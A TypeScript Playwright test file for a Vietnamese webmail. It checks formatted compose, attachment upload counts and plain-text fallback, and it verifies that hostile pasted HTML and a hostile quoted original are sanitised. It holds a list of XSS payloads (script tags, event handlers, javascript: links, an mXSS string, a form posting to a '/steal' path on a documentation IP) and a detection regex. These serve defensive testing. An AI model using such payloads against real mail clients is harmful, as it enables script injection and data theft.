// The webmail's formatted compose in chromium (issue 10): a message written with bold and a link
// arrives at the recipient's IMAP client (imapflow) as multipart/alternative with the HTML part and
// a readable text part; a hostile paste (script, handlers, javascript: links, remote CSS and images,
// SVG, forms, <base>, <meta refresh>) is neutralised before it enters the editor and is not in what
// is sent; a reply quotes a hostile HTML original safely, under the identity's HTML signature; an
// attached file is uploaded once (the upload requests counted). Screenshots, desktop and phone.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Page } from 'playwright-core';
import { simpleParser } from 'mailparser';
import { imapClient, startTestServers, TEST_PASSWORD, type Running } from '../helpers/servers.ts';
import { axeSerious, DESKTOP, noBrowser, openBrowser, PHONE, screenshot, signIn, type UserBrowser } from '../helpers/browser.ts';
import { appendTo, htmlMessage } from '../helpers/webmail-fixtures.ts';

/** An address of the documentation range: nothing may ever be fetched from it. */
const EVIL = '198.51.100.9';
const HOSTILE = [
  `<img src=x onerror="window.__pwned='img'">`,
  `<script>window.__pwned='script'</script>`,
  `<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script><image href="http://${EVIL}/svg.png"/></svg>`,
  `<a href="javascript:window.__pwned='href'">bấm vào đây</a>`,
  `<b onmouseover="window.__pwned='hover'">chữ đậm an toàn</b>`,
  `<div style="background:url(http://${EVIL}/bg.gif)">nền từ xa</div>`,
  `<style>@import url(http://${EVIL}/x.css); p { background: url(http://${EVIL}/p.gif) }</style>`,
  `<iframe src="http://${EVIL}/frame"></iframe>`,
  `<form action="http://${EVIL}/steal"><input name="p" value="mật khẩu"><button formaction="http://${EVIL}/b">Gửi</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">`,
  `<meta http-equiv="refresh" content="0;url=http://${EVIL}/refresh">`,
  `<base href="http://${EVIL}/">`,
  `<img src="http://${EVIL}/pixel.gif" width="1" height="1">`,
  `<a href="data:text/html,<script>alert(1)</script>">dữ liệu</a>`,
].join('\n');
/** What must never be in the editor or in a sent body (the sent HTML's own <head> aside). */
const BAD = new RegExp(`<(img|script|style|svg|iframe|form|input|button|meta|base|math|image)\\b|\\son\\w+=|javascript:|data:text|${EVIL.replace(/\./g, '\\.')}`, 'i');

const bodyOf = (html: string | false | undefined) => String(html).replace(/<head>.*?<\/head>/s, '');

/** Sending done (a failure says why in its alert). */
async function sent(page: Page): Promise<void> {
  await page
    .getByText('Đã gửi thư')
    .waitFor()
    .catch(async (e) => {
      throw new Error(`${e}; alert: ${await page.getByRole('alert').allTextContents()}`);
    });
}

/** JMAP calls from the signed-in page (its cookie and CSRF token). */
async function jmapIn(page: Page, calls: unknown[]): Promise<Array<[string, Record<string, unknown>, string]>> {
  return page.evaluate(async (methodCalls) => {
    const csrf = /(?:^|;\s*)thutin_csrf=([^;]*)/.exec(document.cookie)?.[1] ?? '';
    const res = await fetch('/jmap/api', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-csrf-token': csrf },
      body: JSON.stringify({ using: ['urn:ietf:params:jmap:core', 'urn:ietf:params:jmap:mail', 'urn:ietf:params:jmap:submission'], methodCalls }),
    });
    return (await res.json()).methodResponses;
  }, calls);
}

describe.skipIf(noBrowser('webmail: formatted compose'))('webmail: formatted compose (chromium)', { timeout: 90_000 }, () => {
  let r: Running;
  let base: string;
  let an: string;
  let binh: string;
  let A: UserBrowser;
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'thutin-compose-'));

  /** The recipient's message by its subject, as their IMAP client fetches it: source and body structure. */
  async function received(subject: string) {
    for (;;) {
      const c = imapClient(r, binh, TEST_PASSWORD);
      await c.connect();
      const lock = await c.getMailboxLock('INBOX');
      try {
        const uids = (await c.search({ subject }, { uid: true })) || [];
        if (uids.length) {
          const m = await c.fetchOne(String(uids[uids.length - 1]), { source: true, bodyStructure: true }, { uid: true });
          if (m && m.source && m.bodyStructure) return { source: m.source, structure: m.bodyStructure, parsed: await simpleParser(m.source) };
        }
      } finally {
        lock.release();
        await c.logout();
      }
      await new Promise((res) => setTimeout(res, 200)); // delivery is asynchronous: poll the recipient's INBOX
    }
  }

  /** The media types of a body structure, depth first. */
  const types = (n: { type: string; childNodes?: unknown[] }): string[] => [n.type, ...((n.childNodes ?? []) as Array<{ type: string }>).flatMap(types)];

  async function compose(page: Page, to: string, subject: string): Promise<void> {
    await page.getByRole('link', { name: 'Soạn thư' }).click();
    await page.getByRole('heading', { name: 'Soạn thư' }).waitFor();
    await page.getByRole('combobox', { name: 'Tới' }).fill(to);
    await page.getByRole('combobox', { name: 'Tới' }).press('Enter');
    await page.locator('.chip', { hasText: to }).waitFor();
    await page.getByLabel('Tiêu đề').fill(subject);
  }

  beforeAll(async () => {
    r = await startTestServers();
    base = `https://127.0.0.1:${r.servers.ports.https}`;
    an = await r.user('annv');
    binh = await r.user('binhdv');
    A = await openBrowser(DESKTOP);
    await signIn(A.page, base, an, TEST_PASSWORD);
  });

  afterAll(async () => {
    await A?.close();
    await r?.stop();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  it('sends bold and a link as multipart/alternative; the recipient’s imapflow gets the HTML part; the file is uploaded on its own once', async () => {
    const page = A.page;
    const file = path.join(tmp, 'bao-cao.txt');
    const bytes = Buffer.from(`Báo cáo tháng 12 — ${'số liệu '.repeat(2000)}`);
    fs.writeFileSync(file, bytes);
    const uploads: Array<{ type: string }> = [];
    page.on('request', (q) => {
      if (q.method() === 'POST' && q.url().includes('/jmap/upload/')) uploads.push({ type: q.headers()['content-type'] ?? '' });
    });
    await compose(page, binh, 'Đề nghị xử lý khẩn');
    const body = page.getByRole('textbox', { name: 'Nội dung' });
    await body.click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.type('Kính gửi anh Bình, đề nghị xử lý ');
    await page.getByRole('button', { name: 'Đậm (Ctrl+B)' }).click();
    await expect.poll(() => page.getByRole('button', { name: 'Đậm (Ctrl+B)' }).getAttribute('aria-pressed')).toBe('true');
    await page.keyboard.type('khẩn');
    await page.getByRole('button', { name: 'Đậm (Ctrl+B)' }).click();
    await page.keyboard.type(' theo hướng dẫn trên cổng thông tin');
    for (let i = 0; i < 'cổng thông tin'.length; i++) await page.keyboard.press('Shift+ArrowLeft');
    await page.getByRole('button', { name: 'Chèn liên kết (Ctrl+K)' }).click();
    await page.getByLabel('Địa chỉ liên kết').fill('kontum.gov.vn/huong-dan');
    await page.getByLabel('Địa chỉ liên kết').press('Enter');
    await expect.poll(() => body.innerHTML()).toContain('<a href="https://kontum.gov.vn/huong-dan">cổng thông tin</a>');
    expect(await body.innerHTML()).toContain('<b>khẩn</b>');
    await page.locator('input[type=file]').setInputFiles(file);
    await expect.poll(() => page.locator('progress').evaluate((p: HTMLProgressElement) => p.value === p.max)).toBe(true);
    await page.getByText(/Đã lưu nháp lúc/).waitFor({ timeout: 10_000 });
    await screenshot(page, 'webmail-compose-html-desktop-vi');
    expect(await axeSerious(page)).toEqual([]);
    await page.getByRole('button', { name: 'Gửi' }).click();
    await sent(page);

    const m = await received('Đề nghị xử lý khẩn');
    const kinds = types(m.structure as never);
    expect(kinds).toContain('multipart/alternative');
    expect(kinds).toContain('text/html');
    expect(kinds).toContain('text/plain');
    expect(m.parsed.html).toContain('<b>khẩn</b>');
    expect(m.parsed.html).toMatch(/<a href="https:\/\/kontum\.gov\.vn\/huong-dan"[^>]*>cổng thông tin<\/a>/);
    expect(m.parsed.text).toContain('đề nghị xử lý khẩn theo hướng dẫn trên cổng thông tin <https://kontum.gov.vn/huong-dan>');
    const att = m.parsed.attachments.find((a) => a.filename === 'bao-cao.txt');
    expect(att && Buffer.compare(att.content, bytes)).toBe(0);

    // The file went to /jmap/upload on its own once; a message carrying it again is uploaded only
    // when the server cannot create an Email from its properties (RFC 8621 §4.6) — said, not hidden.
    const own = uploads.filter((u) => u.type.startsWith('text/plain'));
    const messages = uploads.filter((u) => u.type.startsWith('message/rfc822'));
    expect(own).toHaveLength(1);
    if (messages.length)
      process.stderr.write(`webmail-compose: the server created the Email from an uploaded message: the file crossed the wire ${1 + messages.length} times (${messages.length} message uploads)\n`);
  });

  it('neutralises a hostile paste before it enters the editor and in what is sent', async () => {
    const page = A.page;
    const before = A.requests.length;
    await compose(page, binh, 'Dán nội dung lạ');
    const body = page.getByRole('textbox', { name: 'Nội dung' });
    await body.click();
    await page.keyboard.press('Control+Home');
    await body.evaluate((el, html) => {
      const dt = new DataTransfer();
      dt.setData('text/html', html);
      dt.setData('text/plain', 'văn bản');
      el.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
    }, HOSTILE);
    await expect.poll(() => body.innerHTML()).toContain('chữ đậm an toàn');
    const inEditor = await body.innerHTML();
    expect(inEditor).not.toMatch(BAD);
    expect(inEditor).toContain('<b>chữ đậm an toàn</b>');
    expect(inEditor).toContain('bấm vào đây');
    await screenshot(page, 'webmail-compose-paste-desktop-vi');
    await page.getByRole('button', { name: 'Gửi' }).click();
    await sent(page);
    const m = await received('Dán nội dung lạ');
    expect(String(m.parsed.html)).toContain('<b>chữ đậm an toàn</b>');
    expect(bodyOf(m.parsed.html)).not.toMatch(BAD);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(A.requests.slice(before).filter((u) => u.includes(EVIL))).toEqual([]);
  });

  it('sends plain text when nothing is formatted, and fits a phone screen', async () => {
    const phone = await openBrowser(PHONE);
    try {
      await signIn(phone.page, base, an, TEST_PASSWORD);
      const page = phone.page;
      await page.goto(`${base}/compose`);
      await page.getByRole('heading', { name: 'Soạn thư' }).waitFor();
      await page.getByRole('combobox', { name: 'Tới' }).fill(binh);
      await page.getByRole('combobox', { name: 'Tới' }).press('Enter');
      await page.getByLabel('Tiêu đề').fill('Thư thường');
      const body = page.getByRole('textbox', { name: 'Nội dung' });
      await body.click();
      await page.keyboard.press('Control+Home');
      await page.keyboard.type('Dòng một');
      await page.keyboard.press('Enter');
      await page.keyboard.type('Dòng hai');
      await screenshot(page, 'webmail-compose-html-phone-vi');
      expect(await axeSerious(page)).toEqual([]);
      await page.getByRole('button', { name: 'Gửi' }).click();
      await page.getByRole('heading', { name: 'Soạn thư' }).waitFor({ state: 'detached' });
      const m = await received('Thư thường');
      expect(types(m.structure as never)).not.toContain('text/html');
      expect(m.parsed.text?.trim()).toBe('Dòng một\nDòng hai');
    } finally {
      await phone.close();
    }
  });
  it('replies to a hostile HTML mail: the quote keeps its formatting safely, under the identity’s HTML signature', async () => {
    const page = A.page;
    const accountId = await page.evaluate(async () => (await (await fetch('/jmap/session')).json()).primaryAccounts['urn:ietf:params:jmap:mail'] as string);
    const [[, got]] = await jmapIn(page, [['Identity/get', { accountId, ids: null }, '0']]);
    const identity = (got.list as Array<{ id: string }>)[0].id;
    const set = await jmapIn(page, [
      [
        'Identity/set',
        { accountId, update: { [identity]: { htmlSignature: `<b>Nguyễn Văn An</b><br>Sở Nội vụ<img src=x onerror="window.__pwned='sig'"><script>window.__pwned='sig2'</script>` } } },
        '0',
      ],
    ]);
    expect(set[0][1].updated).toBeTruthy();
    await appendTo(r, an, [
      htmlMessage({
        from: binh,
        fromName: 'Đặng Văn Bình',
        to: an,
        subject: 'Yêu cầu báo cáo',
        html: `<p>Đề nghị gửi <b>báo cáo</b> trước ngày 15.</p>${HOSTILE}`,
      }),
    ]);
    await page.goto(`${base}/`);
    await page.locator('.row-subject', { hasText: 'Yêu cầu báo cáo' }).first().click();
    await page.getByRole('link', { name: 'Trả lời', exact: true }).click();
    await page.getByRole('heading', { name: 'Soạn thư' }).waitFor();
    const body = page.getByRole('textbox', { name: 'Nội dung' });
    await expect.poll(() => body.innerHTML()).toContain('<b>báo cáo</b>');
    const inEditor = await body.innerHTML();
    expect(inEditor).not.toMatch(BAD);
    expect(inEditor).toMatch(/<blockquote type="cite">.*Đề nghị gửi <b>báo cáo<\/b> trước ngày 15\./s);
    expect(inEditor).toContain('<div class="thutin-signature">-- <br><b>Nguyễn Văn An</b><br>Sở Nội vụ</div>');
    await body.click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.type('Đã nhận, em sẽ gửi đúng hạn.');
    await screenshot(page, 'webmail-compose-reply-html-desktop-vi');
    await page.getByRole('button', { name: 'Gửi' }).click();
    await sent(page);
    const m = await received('Re: Yêu cầu báo cáo');
    expect(types(m.structure as never)).toContain('multipart/alternative');
    expect(bodyOf(m.parsed.html)).not.toMatch(BAD);
    expect(String(m.parsed.html)).toMatch(/<blockquote type="cite"[^>]*>.*<b>báo cáo<\/b>/s);
    expect(m.parsed.text).toMatch(/^Đã nhận, em sẽ gửi đúng hạn\.\n\n-- \nNguyễn Văn An\nSở Nội vụ\n/);
    expect(m.parsed.text).toContain('> Đề nghị gửi báo cáo trước ngày 15.');
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(A.requests.filter((u) => u.includes(EVIL))).toEqual([]);
  });
});
